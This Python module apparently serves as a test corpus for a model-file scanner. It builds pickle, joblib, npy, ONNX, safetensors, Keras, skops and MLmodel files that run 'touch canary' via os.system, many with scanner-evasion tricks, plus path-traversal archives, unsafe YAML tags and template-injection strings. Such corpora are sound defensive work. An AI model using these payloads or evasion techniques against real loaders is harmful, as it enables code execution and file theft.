"""Files that would run code, made here. Each payload only touches a marker, by a name relative to the working folder.

``MADE`` maps a file name to its bytes; the names in ``PROVEN`` tell which loader really runs the payload, so that a
test can show that the corpus is no paper tiger.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from typing import Any

import cloudpickle
import joblib
import numpy as np
import onnx
from onnx import TensorProto, helper

MARKER = "canary"
COMMAND = f"touch {MARKER}"


class Payload:
    """Calls a function when it is unpickled."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> Any:
        return self._call


def evil(protocol: int = 4) -> bytes:
    return pickle.dumps(Payload(os.system, COMMAND), protocol=protocol)


def text(value: str) -> bytes:
    """The opcode that pushes a short text."""
    return b"\x8c" + bytes([len(value)]) + value.encode()


def call(module: str, name: str, *arguments: str) -> bytes:
    """Opcodes that call a function with texts and leave its answer on the stack."""
    return text(module) + text(name) + b"\x93(" + b"".join(map(text, arguments)) + b"tR"


SYSTEM = call("posix", "system", COMMAND)


def zipped(members: dict[str, bytes], **options: Any) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", **options) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


def tarred(name: str, content: bytes, kind: bytes = tarfile.REGTYPE, link: str = "") -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        member = tarfile.TarInfo(name)
        member.size, member.type, member.linkname = len(content), kind, link
        archive.addfile(member, io.BytesIO(content))
    return made.getvalue()


def tar_that_is_a_pickle() -> bytes:
    """A tar header whose name field is a pickle: it ends at STOP, long before the tar's own bytes."""
    head = bytearray(tarred("x", b""))
    code = b"\x80\x04" + SYSTEM + b"."
    head[: len(code)] = code
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head[:512])
    return bytes(head)


def npy(value: Any, header: bytes = b"") -> bytes:
    made = io.BytesIO()
    np.save(made, np.array([value], dtype=object), allow_pickle=True)
    content = made.getvalue()
    if header:
        length = struct.unpack("<H", content[8:10])[0]
        content = content[:6] + b"\x02\x00" + struct.pack("<I", len(header)) + header + content[10 + length :]
    return content


def joblibbed(value: Any, compress: Any = 0) -> bytes:
    made = io.BytesIO()
    joblib.dump(value, made, compress=compress)
    return made.getvalue()


WRAPPER = b"\x8c\x13joblib.numpy_pickle" + text("NumpyArrayWrapper") + b"\x93)\x81"


def wrapped_array(dtype: bytes, shape: int, padding: bytes, behind: bytes) -> bytes:
    """A joblib array whose raw bytes are opcodes for a loader that knows nothing of joblib."""
    state = (
        b"}("
        + (text("subclass") + text("numpy") + text("ndarray") + b"\x93")
        + (text("shape") + b"J" + struct.pack("<i", shape) + b"\x85")
        + (text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + b"\x89")
        + padding
        + b"u"
    )
    return b"\x80\x04" + WRAPPER + state + b"b" + behind


def dtype(name: str, build: bytes = b"") -> bytes:
    return text("numpy") + text("dtype") + b"\x93" + text(name) + b"\x89\x88\x87R" + build


def hidden_behind_an_array() -> bytes:
    """Old joblib wrote no padding: an array of bytes, which are opcodes to `pickle.load`."""
    return wrapped_array(dtype("u1"), len(SYSTEM) + 1, text("numpy_array_alignment_bytes") + b"N", SYSTEM + b"." + b"N.")


def hidden_in_an_object_array() -> bytes:
    """A nested pickle is read without knowledge of joblib: what an array wrapper in it announces is no array."""
    inner = wrapped_array(dtype("u1"), len(SYSTEM) + 1, text("numpy_array_alignment_bytes") + b"N", SYSTEM + b"." + b"N.")
    return wrapped_array(dtype("O8"), 1, text("numpy_array_alignment_bytes") + b"K\x10", inner + b".")


def hidden_in_a_structure() -> bytes:
    """A structured type with an object field is pickled, not raw."""
    field = b"}" + text("f") + dtype("O8") + b"K\x00\x86s"
    build = b"(K\x03" + text("|") + b"N" + text("f") + b"\x85" + field + b"K\x08K\x01K\x1ftb"
    return wrapped_array(dtype("V8", build), 100, text("numpy_array_alignment_bytes") + b"K\x10", evil() + b"N." + bytes(800))


def hidden_in_a_frame() -> bytes:
    """A frame goes on behind an array's description; the array's bytes come after the whole frame."""
    array = wrapped_array(dtype("u1"), 3, text("numpy_array_alignment_bytes") + b"K\x10", b"")[2:]
    code = array + b"0" + SYSTEM + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(code)) + code + b"\x01\xff" + b"abc"


def old_tar(name: str, content: bytes) -> bytes:
    """A tar from before the magic word, as torch wrote its first files."""
    head = bytearray(tarred(name, content))
    head[257:265] = bytes(8)
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head[:512])
    return bytes(head)


def pytorch_legacy() -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2)
    return magic + evil(2) + pickle.dumps([], protocol=2)


def safetensors(header: Any, data: bytes = b"") -> bytes:
    said = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(said)) + said + data


def tensor(start: int, end: int, shape: int = 2) -> dict[str, Any]:
    return {"dtype": "F32", "shape": [shape], "data_offsets": [start, end]}


def onnx_model(*, location: str = "", where: str = "initializer", operator: str = "Relu") -> bytes:
    """A model whose tensor lies outside, in the graph, in an attribute or in a graph inside an attribute."""
    outside = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1], data_location=TensorProto.EXTERNAL)
    entry = outside.external_data.add()
    entry.key, entry.value = "location", location
    rows = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
    answer = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
    node = helper.make_node(operator, ["x"], ["y"])
    if location and where != "initializer":
        inner = helper.make_node("Constant", [], ["c"], value=outside)
        graph = helper.make_graph([inner], "inner", [], [])
        node = inner if where == "attribute" else helper.make_node("Scan", ["x"], ["y"], body=graph)
    initializer = [outside] if location and where == "initializer" else []
    return bytes(helper.make_model(helper.make_graph([node], "g", [rows], [answer], initializer)).SerializeToString())


def onnx_value_before_key() -> bytes:
    """The fields of the entry turned around, with lengths spelt in two bytes: the same model to every parser."""
    path = b"../../etc/passwd"
    entry = b"\x12" + bytes([len(path) | 0x80, 0]) + path + b"\x0a\x88\x00location"
    held = b"\x6a" + bytes([len(entry)]) + entry + b"\x70\x01"
    graph = b"\x2a" + bytes([len(held)]) + held
    return b"\x3a" + bytes([len(graph)]) + graph


def skops(**node: Any) -> dict[str, bytes]:
    return {"schema.json": json.dumps({"protocol": 2, "_skops_version": "0.16.0", **node}).encode()}


KERAS_FUNCTION = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
CODE = marshal.dumps(compile("1", "<x>", "eval"))

# Files that any loader of Python's own pickles runs: file name -> content, the loader's name behind the bar.
RUNS: dict[str, bytes] = {
    "plain.pkl|pickle": evil(),
    "protocol_0.pkl|pickle": evil(0),
    "protocol_1.pkl|pickle": evil(1),
    "protocol_2.pkl|pickle": evil(2),
    "protocol_5.pkl|pickle": evil(5),
    "wrong_ending.txt|pickle": evil(),
    "no_ending|pickle": evil(),
    "weights.safetensors|pickle": evil(),
    "conda.yaml|pickle": evil(0),
    "protocol_0.txt|pickle": evil(0),
    "inst.pkl|pickle": b"(S'" + COMMAND.encode() + b"'\niposix\nsystem\n.",
    "obj.pkl|pickle": b"(cposix\nsystem\nS'" + COMMAND.encode() + b"'\no.",
    "number_first.dat|pickle": b"K\x010cposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.",
    "late.dat|pickle": b"S'" + b"x" * 9000 + b"'\n0cposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.",
    "memo.pkl|pickle": b"\x80\x04" + text("posix") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93(" + text(COMMAND) + b"tR.",
    "dotted.pkl|pickle": b"\x80\x04" + call("shutil", "os.system", COMMAND) + b".",
    "dotted_library.pkl|pickle": b"\x80\x04" + call("sklearn.utils._testing", "os.system", COMMAND) + b".",
    "broken_after.pkl|pickle": evil()[:-1] + b"\x00garbage",
    "ends_early.pkl|pickle": b"\x80\x04" + SYSTEM,
    "no_protocol.pkl|pickle": SYSTEM + b".",
    "getattr.pkl|pickle": b"\x80\x04"
    + (
        text("builtins")
        + text("getattr")
        + b"\x93("
        + call("builtins", "__import__", "os")
        + text("system")
        + b"tR("
        + text(COMMAND)
        + b"tR."
    ),
    "eval.pkl|pickle": pickle.dumps(Payload(eval, f"__import__('os').system({COMMAND!r})")),
    "timeit.pkl|pickle": b"\x80\x04" + call("timeit", "timeit", "", f"import os; os.system({COMMAND!r})") + b".",
    "runpy.pkl|pickle": b"\x80\x04" + call("code", "InteractiveInterpreter") + b"0" + SYSTEM + b".",
    "odd_text.pkl|pickle": b"\x80\x04" + text("builtins") + text("str") + b"\x93(" + text("posix") + b"tR0" + SYSTEM + b".",
    "rot13.pkl|pickle": b"\x80\x04" + call("_codecs", "encode", "cbfvk", "rot13") + text("system") + b"\x93(" + text(COMMAND) + b"tR.",
    "frames.pkl|pickle": b"\x80\x04\x95" + struct.pack("<Q", len(SYSTEM) + 1) + SYSTEM + b".",
    "tar.pkl|pickle": tar_that_is_a_pickle(),
    "zip_behind.pkl|pickle": b"\x80\x04" + SYSTEM + b"." + zipped({"a.txt": b"a"}),
    "array_hides.pkl|pickle": hidden_behind_an_array(),
    "stacked.pkl|stacked": pickle.dumps({"a": 1}) + evil(),
    "legacy.pt|stacked": pytorch_legacy(),
    "plain.joblib|joblib": joblibbed(Payload(os.system, COMMAND)),
    "zlib.joblib|joblib": joblibbed(Payload(os.system, COMMAND), ("zlib", 3)),
    "gzip.joblib|joblib": joblibbed(Payload(os.system, COMMAND), ("gzip", 3)),
    "bz2.joblib|joblib": joblibbed(Payload(os.system, COMMAND), ("bz2", 3)),
    "lzma.joblib|joblib": joblibbed(Payload(os.system, COMMAND), ("lzma", 3)),
    "xz.joblib|joblib": joblibbed(Payload(os.system, COMMAND), ("xz", 3)),
    "small_lzma.dat|joblib": lzma.compress(evil(), lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]),
    "array_first.joblib|joblib": joblibbed([np.arange(1000.0), Payload(os.system, COMMAND)]),
    "object_array.joblib|joblib": joblibbed(np.array([Payload(os.system, COMMAND)], dtype=object)),
    "object_array_hides.joblib|joblib": hidden_in_an_object_array(),
    "frame_hides.joblib|joblib": hidden_in_a_frame(),
    "structure_hides.joblib|joblib": hidden_in_a_structure(),
    "object.npy|npy": npy(Payload(os.system, COMMAND)),
    "double_quotes.npy|npy": npy(Payload(os.system, COMMAND), b'{"descr": "|O", "fortran_order": False, "shape": (1,), }\n'),
    "late_header.npy|npy": npy(
        Payload(os.system, COMMAND), b"{'fortran_order': False," + b" " * 6000 + b"'shape': (1,), 'descr': '|O', }\n"
    ),
    "object.npz|npy": zipped({"a.npy": npy(Payload(os.system, COMMAND))}),
}

# Files that no loader here runs as they are, that are refused all the same.
ODD: dict[str, bytes] = {
    "two_streams.joblib": zlib.compress(evil()[:9]) + zlib.compress(evil()[9:]),
    "gzip.pkl.gz": gzip.compress(evil()),
    "bz2.pkl": bz2.compress(evil()),
    "xz.pkl": lzma.compress(evil()),
    "torch.pt": zipped({"archive/data.pkl": evil(2), "archive/version": b"3"}),
    "schema_too.pt": zipped({"archive/data.pkl": evil(2), **skops(__class__="int", __module__="builtins")}),
    "zip_in_zip.zip": zipped({"a.zip": zipped({"b.pkl": evil()})}),
    "deep.zip": zipped({"a.zip": zipped({"a.zip": zipped({"a.zip": zipped({"a.zip": zipped({"a.zip": b""})})})})}),
    "prefixed.dat": b"#!/bin/sh\n" + zipped({"b.pkl": evil()}),
    "encrypted.zip": zipped({"a.pkl": evil()})
    .replace(b"PK\x03\x04\x14\x00\x00", b"PK\x03\x04\x14\x00\x01")
    .replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"),
    "bundle.tar": tarred("b.pkl", evil()),
    "bundle.tar.gz": gzip.compress(tarred("b.pkl", evil())),
    "old.bin": old_tar("pickle", evil(2)),
    "link.tar": tarred("b", b"", tarfile.SYMTYPE, "/etc/passwd"),
    "up.tar": tarred("../b", b"x"),
    "slip.zip": zipped({"../../up.txt": b"x"}),
    "drive.zip": zipped({"C:/up.txt": b"x"}),
    "same_name.zip": zipped({"a.txt": b"1", "A.txt": b"2"}),
    "archive.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40),
    "frame.parquet.zst": b"\x28\xb5\x2f\xfd" + bytes(40),
    "lambda.pkl": cloudpickle.dumps(lambda rows: rows),
    "extension.pkl": b"\x80\x04\x82\x05(" + text(COMMAND) + b"tR.",
    "named_like.pkl": b"no pickle at all",
    "named_like_too.pkl": b"cats and dogs\nin (brackets).\n",
    "claims.pkl": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40),
    "unsafe.yaml": b"a: !!python/object/apply:os.system ['true']\n",
    "tagged.yaml": b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']\n",
    "layer.keras": zipped({"config.json": b'{"class_name": "Lambda", "module": "keras.layers"}', "metadata.json": b"{}"}),
    "disguised.keras": zipped({"config.json": b'{"cl\\u0061ss_name" : "L\\u0061mbda"}', "metadata.json": b"{}"}),
    "function.keras": zipped({"config.json": json.dumps({"config": {"activation": KERAS_FUNCTION}}).encode(), "metadata.json": b"{}"}),
    "layer.h5": b"\x89HDF\r\n\x1a\n" + bytes(90) + b'model_config {"config": {"class_name" : "Lambda", "code": "4w"}}',
    "behind.h5": bytes(512) + b"\x89HDF\r\n\x1a\n" + b'model_config {"class_name": "Lambda"}',
    "graph/saved_model.pb": b"\x08\x01",
    "outside.onnx": onnx_model(location="../../etc/passwd"),
    "absolute.onnx": onnx_model(location="/etc/passwd"),
    "attribute.onnx": onnx_model(location="../x" * 60, where="attribute"),
    "subgraph.onnx": onnx_model(location="a/../../x", where="subgraph"),
    "turned.onnx": onnx_value_before_key(),
    "engine.onnx": onnx_model(operator="EPContext"),
    "truncated.onnx": onnx_model()[:-3],
    "evil.skops": zipped(skops(__class__="system", __module__="posix", __loader__="FunctionNode")),
    "function.skops": zipped(
        skops(__class__="function", __module__="builtins", __loader__="FunctionNode", content={"module_path": "os", "function": "system"})
    ),
    "borrowed.skops": zipped(skops(__class__="Client", __module__="sklearn.callback._transport", __loader__="ObjectNode")),
    "pickle_inside.skops": zipped({**skops(__class__="int", __module__="builtins"), "0.npy": npy(Payload(os.system, COMMAND))}),
    "short.safetensors": struct.pack("<Q", 10**12),
    "long.safetensors": safetensors({}, b"more"),
    "overlap.safetensors": safetensors({"a": tensor(0, 8), "b": tensor(4, 12)}, bytes(12)),
    "gap.safetensors": safetensors({"a": tensor(0, 8), "b": tensor(12, 20)}, bytes(20)),
    "wrong_size.safetensors": safetensors({"a": tensor(0, 8, shape=3)}, bytes(8)),
    "like_a_pickle.safetensors": safetensors(json.dumps({"a": tensor(0, 9)}).encode().ljust(0x280), bytes(9)),
    "negative.safetensors": safetensors({"a": tensor(-8, 0)}),
    "twice.safetensors": safetensors(b'{"a": {"dtype":"F32","shape":[0],"data_offsets":[0,0]}, "a": 1}'),
    "nested.safetensors": safetensors(b"[" * 100_000),
    "half.safetensors": b"\x01\x02",
    "own_loader/MLmodel": b"flavors:\n  python_function:\n    loader_module: my_own.code\n",
    "own_code/MLmodel": b"flavors:\n  python_function: {loader_module: mlflow.sklearn, code: code}\n",
    "from_code/MLmodel": b"flavors:\n  python_function: {loader_module: mlflow.pyfunc.model, model_code_path: agent.py}\n",
    "leads_out/MLmodel": b"flavors:\n  sklearn: {pickled_model: ../../other.pkl}\n",
    "absolute/MLmodel": b"flavors:\n  sklearn: {pickled_model: /tmp/other.pkl}\n",
    "class/MLmodel": b"flavors:\n  xgboost: {model_class: os.system, data: m.xgb}\n",
    "unknown/MLmodel": b"flavors:\n  sentence_transformers: {data: m}\n",
    "cut_off/MLmodel": b"flavors:\n  sklearn: {}\n" + b"#" * (8 << 20) + b"\nflavors:\n  python_function: {loader_module: evil}\n",
    "twice/MLmodel": b"flavors:\n  sklearn: {}\nflavors:\n  python_function: {loader_module: evil}\n",
    "bomb/MLmodel": b"a: &a [x,x,x,x,x,x,x,x,x]\n"
    + b"".join(b"%c: &%c [%s]\n" % (98 + n, 98 + n, b",".join([b"*%c" % (97 + n)] * 9)) for n in range(9))
    + b"flavors: {sklearn: {a: *j}}\n",
    "nested/MLmodel": b"flavors: " + b"[" * 5000,
    "tags/MLmodel": b"flavors: !!python/object/apply:os.system ['true']\n",
    "torch/pickle_module_info.txt": b"my_own.pickle",
    "auto/config.json": b'{"auto_map": {"AutoModel": "modeling.Evil"}}',
    "auto_disguised/config.json": b'{"\\u0061uto_map": {"AutoModel": "modeling.Evil"}}',
    "chat/tokenizer_config.json": b'{"chat_template": "{{ x.__globals__ }}"}',
    "chat.gguf": b"GGUF" + bytes(20) + b"tokenizer.chat_template" + struct.pack("<IQ", 8, 22) + b"{{ x.__globals__.os }}",
    "m/config.pbtxt": b'name: "m"\nmodel_operations { op_library_filename: "evil.so" }\n',
    "out/config.pbtxt": b'name: "m"\ndefault_model_filename: "../../x.onnx"\n',
}

MADE = {**{name.partition("|")[0]: content for name, content in RUNS.items()}, **ODD}

__all__ = ["COMMAND", "MADE", "MARKER", "ODD", "RUNS", "Payload", "evil", "npy", "onnx", "tarred", "zipped"]
